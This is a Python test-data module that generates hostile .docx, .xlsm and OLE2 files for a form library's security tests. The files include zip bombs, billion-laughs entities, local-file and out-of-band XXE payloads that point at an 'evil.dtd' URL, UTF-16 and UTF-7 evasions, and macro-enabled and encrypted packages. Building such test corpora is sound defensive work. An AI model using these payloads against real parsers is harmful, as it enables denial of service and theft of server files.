"""Hostile files for the security tests, made from code (nothing binary is committed).

Each function returns the bytes of one hostile file. Most start from a real form rendered by musforms, so
that the file gets past the first checks and the attack sits where an attacker would put it.

Run ``python tests/data/hostile/corpus.py OUT_DIR`` to write the whole corpus to a folder (to try it with
the command line, or as seeds for ``fuzz/fuzz_parse.py``).
"""

from __future__ import annotations

import io
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from functools import lru_cache
from pathlib import Path

SECRET_TEXT = "TOP-SECRET-musforms-xxe-canary"
"""What the local file of the XXE tests holds; it must never appear in a result or an error."""

KEY = b"hr-system-signing-key-0123456789"
"""The signing key of the identity tests."""

SUBJECT = "E-0001"
"""The employee id of the sample context the forms are rendered for."""


# -- forms to start from ---------------------------------------------------------------------------------


@lru_cache(maxsize=8)
def form(fmt: str = "docx", role: str = "employee", template: str = "mus-scored-da", signed: bool = False) -> bytes:
    """A form rendered by musforms, with a few answers (signed with :data:`KEY` if ``signed``)."""
    import musforms
    from musforms._model.context import SAMPLE_CONTEXT

    answers = {"rate_quality": 3, "strengths": "Grundig og rolig"} if template == "mus-scored-da" else None
    return musforms.render(
        template,
        fmt,  # type: ignore[arg-type]
        role=role,  # type: ignore[arg-type]
        context=SAMPLE_CONTEXT,
        answers=answers if role == "employee" else None,
        form_id="0123456789abcdef0123456789abcdef",
        signing_key=KEY if signed else None,
    )


def members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    """Every member of a zip package with its content."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info, archive.read(info)) for info in archive.infolist()]


def rezip(parts: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip package of ``parts`` (name, content), in order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def replace_part(data: bytes, part: str, content: bytes) -> bytes:
    """``data`` with ``part`` holding ``content`` (added if missing)."""
    parts = [(info.filename, body) for info, body in members(data)]
    names = [name for name, _ in parts]
    if part in names:
        parts[names.index(part)] = (part, content)
    else:
        parts.append((part, content))
    return rezip(parts)


def edit_part(data: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """``data`` with the text of ``part`` changed by ``change``."""
    content = {info.filename: body for info, body in members(data)}[part]
    return replace_part(data, part, change(content.decode("utf-8")).encode("utf-8"))


def _doctype(xml: bytes, declaration: str) -> bytes:
    """An XML part with a document type declaration put after its XML declaration."""
    head, sep, rest = xml.partition(b"?>")
    return head + sep + declaration.encode() + rest


def _root_name(xml: bytes) -> str:
    match = re.search(rb"<([A-Za-z_][\w.:-]*)[\s>]", xml.split(b"?>", 1)[-1])
    assert match
    return match.group(1).decode()


def _in_first_text(xml: bytes, entity: str) -> bytes:
    """Put ``&entity;`` into the first ``<w:t>`` of a document (or the first text of any part)."""
    if b"<w:t>" in xml:
        return xml.replace(b"<w:t>", b"<w:t>&" + entity.encode() + b";", 1)
    if b"<w:t " in xml:
        return re.sub(rb"(<w:t [^>]*>)", lambda m: m.group(1) + b"&" + entity.encode() + b";", xml, count=1)
    return re.sub(rb"(<vt:lpwstr>)", lambda m: m.group(1) + b"&" + entity.encode() + b";", xml, count=1)


def _part(data: bytes, part: str) -> bytes:
    return {info.filename: body for info, body in members(data)}[part]


# -- zip bombs ---------------------------------------------------------------------------------------------


def _zeros_deflated(total: int) -> bytes:
    """A raw deflate stream of ``total`` zero bytes, made from one flushed block repeated (fast to build)."""
    chunk = 1 << 20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert total % chunk == 0
    return block * (total // chunk) + b"\x03\x00"  # and an empty final block


_LOCAL = struct.Struct("<IHHHHHIIIHH")
_CENTRAL = struct.Struct("<IHHHHHHIIIHHHHHII")
_END = struct.Struct("<IHHHHIIH")


def _raw_zip(entries: list[tuple[str, bytes, int, int, int]], *, shared: bool = False, flags: int = 0) -> bytes:
    """A zip written by hand: each entry is (name, compressed bytes, method, crc, declared size).

    With ``shared``, every central directory entry points at the first entry's data (an overlapping bomb).
    """
    out = io.BytesIO()
    central = []
    first_offset = 0
    for number, (name, raw, method, crc, size) in enumerate(entries):
        encoded = name.encode()
        if shared and number:
            offset = first_offset
        else:
            offset = out.tell()
            out.write(_LOCAL.pack(0x04034B50, 20, flags, method, 0, 0x21, crc, len(raw), size, len(encoded), 0))
            out.write(encoded)
            out.write(raw)
        if number == 0:
            first_offset = offset
        central.append(
            _CENTRAL.pack(
                0x02014B50, 20, 20, flags, method, 0, 0x21, crc, len(raw), size, len(encoded), 0, 0, 0, 0, 0, offset
            )
            + encoded
        )
    start = out.tell()
    for entry in central:
        out.write(entry)
    size = out.tell() - start
    out.write(_END.pack(0x06054B50, 0, 0, len(central), len(central), size, start, 0))
    return out.getvalue()


def zip_bomb() -> bytes:
    """A 3 MB .docx whose document.xml unpacks to 3 GB of zeros (honest sizes, ratio about 1000)."""
    total = 3 << 30
    raw = _zeros_deflated(total)
    base = [(info.filename, body) for info, body in members(form()) if info.filename != "word/document.xml"]
    entries = [(name, zlib.compress(body)[2:-4], 8, zlib.crc32(body), len(body)) for name, body in base]
    entries.insert(0, ("word/document.xml", raw, 8, 0, total))
    return _raw_zip(entries)


def zip_bomb_lying() -> bytes:
    """A .docx whose document.xml says it is 2 KB but whose data would inflate to 1 GB."""
    raw = _zeros_deflated(1 << 30)
    base = [(info.filename, body) for info, body in members(form()) if info.filename != "word/document.xml"]
    entries = [(name, zlib.compress(body)[2:-4], 8, zlib.crc32(body), len(body)) for name, body in base]
    entries.insert(0, ("word/document.xml", raw, 8, 0, 2048))
    return _raw_zip(entries)


def zip_bomb_overlapping() -> bytes:
    """3000 central directory entries that all point at one 1 MB member (3 GB in all, from a small file)."""
    raw = _zeros_deflated(1 << 20)
    crc = zlib.crc32(b"\0" * (1 << 20))
    entries = [(f"word/media/image{n}.png", raw, 8, crc, 1 << 20) for n in range(3000)]
    entries.insert(0, ("word/document.xml", raw, 8, crc, 1 << 20))
    return _raw_zip(entries, shared=True)


def too_many_parts() -> bytes:
    """A .docx with 6,000 empty parts."""
    parts = [(info.filename, body) for info, body in members(form())]
    parts += [(f"word/junk/{n}.xml", b"") for n in range(6000)]
    return rezip(parts, zipfile.ZIP_STORED)


# -- XML attacks -----------------------------------------------------------------------------------------------

_LAUGHS = "".join(
    f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "lol" * 10}">' for n in range(1, 10)
)


def billion_laughs(part: str = "word/document.xml") -> bytes:
    """A form whose ``part`` declares the "billion laughs" entities and uses the largest."""
    xml = _part(form(), part)
    hostile = _in_first_text(_doctype(xml, f"<!DOCTYPE {_root_name(xml)} [{_LAUGHS}]>"), "lol9")
    return replace_part(form(), part, hostile)


def xxe_local_file(secret: Path, part: str = "word/document.xml") -> bytes:
    """A form whose ``part`` declares an external entity for a local file and uses it in a text."""
    xml = _part(form(), part)
    uri = secret.resolve().as_uri()
    hostile = _in_first_text(_doctype(xml, f'<!DOCTYPE {_root_name(xml)} [<!ENTITY xxe SYSTEM "{uri}">]>'), "xxe")
    return replace_part(form(), part, hostile)


def xxe_parameter_entity(secret: Path, url: str) -> bytes:
    """An out-of-band XXE: a parameter entity that reads a local file and sends it to ``url``."""
    xml = _part(form(), "word/document.xml")
    uri = secret.resolve().as_uri()
    declaration = (
        f'<!DOCTYPE w:document [<!ENTITY % file SYSTEM "{uri}"><!ENTITY % dtd SYSTEM "{url}/evil.dtd">%dtd;%send;]>'
    )
    return replace_part(form(), "word/document.xml", _doctype(xml, declaration))


def external_dtd(url: str) -> bytes:
    """A form whose document.xml names an external DTD over http (and uses an entity it would declare)."""
    xml = _part(form(), "word/document.xml")
    hostile = _in_first_text(_doctype(xml, f'<!DOCTYPE w:document SYSTEM "{url}/evil.dtd">'), "remote")
    return replace_part(form(), "word/document.xml", hostile)


def doctype_utf16() -> bytes:
    """document.xml re-encoded as UTF-16 with a billion-laughs DOCTYPE (a byte scan for ``<!DOCTYPE`` misses it)."""
    xml = _part(form(), "word/document.xml").decode("utf-8")
    xml = re.sub("encoding=['\"]UTF-8['\"]", 'encoding="UTF-16"', xml, count=1)
    head, sep, rest = xml.partition("?>")
    text = head + sep + f"<!DOCTYPE w:document [{_LAUGHS}]>" + rest.replace("<w:t>", "<w:t>&lol9;", 1)
    return replace_part(form(), "word/document.xml", text.encode("utf-16"))


def odd_encoding() -> bytes:
    """document.xml declared as UTF-7, an encoding an Office file never uses (and that can hide markup)."""
    xml = re.sub(rb"encoding=['\"]UTF-8['\"]", b'encoding="UTF-7"', _part(form(), "word/document.xml"), count=1)
    return replace_part(form(), "word/document.xml", xml)


def deep_xml(depth: int = 100_000, part: str = "word/document.xml") -> bytes:
    """A form whose ``part`` nests ``depth`` elements inside the first text run."""
    xml = _part(form(), part)
    nest = b"<w:x>" * depth + b"</w:x>" * depth
    if part == "word/document.xml":
        hostile = xml.replace(b"<w:body>", b"<w:body>" + nest, 1)
    else:
        hostile = re.sub(rb"(<Properties[^>]*>)", lambda m: m.group(1) + nest.replace(b"w:x", b"x"), xml, count=1)
    return replace_part(form(), part, hostile)


# -- macros and encryption -----------------------------------------------------------------------------------------

_DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def macro_docm() -> bytes:
    """A .docm: the form with a vbaProject.bin part and the macro-enabled content type."""
    data = edit_part(
        form(),
        "[Content_Types].xml",
        lambda x: x.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", _DOCM_MAIN
        ),
    )
    return replace_part(data, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b'Attribute VB_Name = "Module1"' * 10)


def macro_xlsm_content_type() -> bytes:
    """An .xlsm that says so only in its content types (no vbaProject.bin part)."""
    return edit_part(
        form("xlsx"),
        "[Content_Types].xml",
        lambda x: x.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", _XLSM_MAIN),
    )


def _ole2(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding ``streams`` in regular sectors.

    Each stream is padded to at least 4096 bytes, so no mini stream is needed; one FAT sector, one
    directory sector (root + up to three streams).
    """
    assert len(streams) <= 3
    sector = 512
    end, free, fat_sect = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    bodies = [(name, content.ljust(4096, b"\0")) for name, content in streams.items()]
    fat = [fat_sect, end]  # sector 0: the FAT; sector 1: the directory
    starts = []
    for _, body in bodies:
        count = -(-len(body) // sector)
        start = len(fat)
        starts.append(start)
        fat += [start + n + 1 for n in range(count - 1)] + [end]
    assert len(fat) <= sector // 4
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", free, right, child)
            + b"\0" * 16
            + struct.pack("<I", 0)
            + b"\0" * 16
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1 if bodies else free, free, end, 0)
    for number, ((name, body), start) in enumerate(zip(bodies, starts, strict=True), start=1):
        right = number + 1 if number < len(bodies) else free
        directory += entry(name, 2, free, right, start, len(body))
    directory = directory.ljust(sector, b"\0")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    assert len(header) == sector
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    return (
        header
        + fat_bytes
        + directory
        + b"".join(body.ljust(-(-len(body) // sector) * sector, b"\0") for _, body in bodies)
    )


def encrypted_docx() -> bytes:
    """A password-protected .docx as Office stores it: an OLE2 file with EncryptionInfo and EncryptedPackage."""
    info = (
        struct.pack("<HHI", 4, 4, 0x40) + b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>'
    )
    package = struct.pack("<Q", 12345) + bytes(range(256)) * 20
    return _ole2({"EncryptionInfo": info, "EncryptedPackage": package})


def old_doc() -> bytes:
    """An old binary Word file: an OLE2 file with a WordDocument stream."""
    return _ole2({"WordDocument": b"\xec\xa5" + b"\0" * 100, "1Table": b"\0" * 100})


def old_xls() -> bytes:
    """An old binary Excel file: an OLE2 file with a Workbook stream."""
    return _ole2({"Workbook": b"\x09\x08" + b"\0" * 100})


def encrypted_zip_member() -> bytes:
    """A .docx whose members are flagged as zip-encrypted (traditional PKWARE encryption)."""
    entries = [
        (info.filename, zlib.compress(body)[2:-4], 8, zlib.crc32(body), len(body)) for info, body in members(form())
    ]
    return _raw_zip(entries, flags=0x1)


def unusual_compression() -> bytes:
    """A .docx whose document.xml is compressed with LZMA (Office never does; LZMA can demand much memory)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, body in members(form()):
            method = zipfile.ZIP_LZMA if info.filename == "word/document.xml" else zipfile.ZIP_DEFLATED
            archive.writestr(info.filename, body, compress_type=method)
    return out.getvalue()


# -- damaged files and files of the wrong kind ---------------------------------------------------------------------


def truncated() -> bytes:
    """The first half of a form."""
    data = form()
    return data[: len(data) // 2]


def zip_of_other_files() -> bytes:
    return rezip([("notes.txt", b"hello"), ("photo.jpg", b"\xff\xd8\xff\xe0 not really")])


def odt() -> bytes:
    return rezip(
        [("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<office:document-content/>")],
        zipfile.ZIP_STORED,
    )


def pptx() -> bytes:
    return rezip([("[Content_Types].xml", b"<Types/>"), ("ppt/presentation.xml", b"<p:presentation/>")])


WRONG_KINDS: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "the file is empty"),
    "pdf": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "this is a PDF"),
    "png": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "a PNG image"),
    "jpeg": (lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\0" * 64, "a JPEG image"),
    "gif": (lambda: b"GIF89a" + b"\0" * 32, "a GIF image"),
    "text": (lambda: b"Mine styrker er grundighed og ro.\n", "a text file"),
    "html": (lambda: b"<!DOCTYPE html><html><body>Form</body></html>", "an HTML page"),
    "rtf": (lambda: b"{\\rtf1\\ansi Hello}", "an RTF file"),
    "word2003xml": (
        lambda: (
            b'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"/>'
        ),
        "a Word 2003 XML file",
    ),
    "gzip": (lambda: b"\x1f\x8b\x08\x00" + b"\0" * 20, "a gzip archive"),
    "doc": (old_doc, "an old binary Word file (.doc)"),
    "xls": (old_xls, "an old binary Excel file (.xls)"),
    "zip": (zip_of_other_files, "neither a Word (.docx) nor an Excel (.xlsx) file"),
    "odt": (odt, "an OpenDocument file (.odt)"),
    "pptx": (pptx, "a PowerPoint file (.pptx)"),
    "empty_zip": (lambda: _END.pack(0x06054B50, 0, 0, 0, 0, 0, 0, 0), "an empty zip archive"),
}
"""Files that are not forms: how to make each, and what the error must call it."""


def corpus(secret: Path) -> dict[str, bytes]:
    """Every hostile file by name (the XXE files read ``secret``; the DTD URL points at a closed port)."""
    url = "http://127.0.0.1:9"
    files = {
        "zip-bomb.docx": zip_bomb(),
        "zip-bomb-lying.docx": zip_bomb_lying(),
        "zip-bomb-overlapping.docx": zip_bomb_overlapping(),
        "too-many-parts.docx": too_many_parts(),
        "billion-laughs.docx": billion_laughs(),
        "billion-laughs-props.docx": billion_laughs("docProps/custom.xml"),
        "xxe-local-file.docx": xxe_local_file(secret),
        "xxe-local-file-props.docx": xxe_local_file(secret, "docProps/custom.xml"),
        "xxe-parameter-entity.docx": xxe_parameter_entity(secret, url),
        "external-dtd.docx": external_dtd(url),
        "doctype-utf16.docx": doctype_utf16(),
        "odd-encoding.docx": odd_encoding(),
        "deep.docx": deep_xml(),
        "deep-props.docx": deep_xml(100_000, "docProps/custom.xml"),
        "macro.docm": macro_docm(),
        "macro-content-type.xlsm": macro_xlsm_content_type(),
        "encrypted.docx": encrypted_docx(),
        "encrypted-zip.docx": encrypted_zip_member(),
        "lzma.docx": unusual_compression(),
        "truncated.docx": truncated(),
    }
    for name, (make, _what) in WRONG_KINDS.items():
        files[f"wrong-kind-{name}.bin"] = make()
    return files


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: python tests/data/hostile/corpus.py OUT_DIR", file=sys.stderr)
        return 2
    out = Path(argv[1])
    out.mkdir(parents=True, exist_ok=True)
    secret = out / "secret.txt"
    secret.write_text(SECRET_TEXT, encoding="utf-8")
    for name, data in corpus(secret).items():
        (out / name).write_bytes(data)
        print(f"wrote {out / name} ({len(data):,} bytes)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
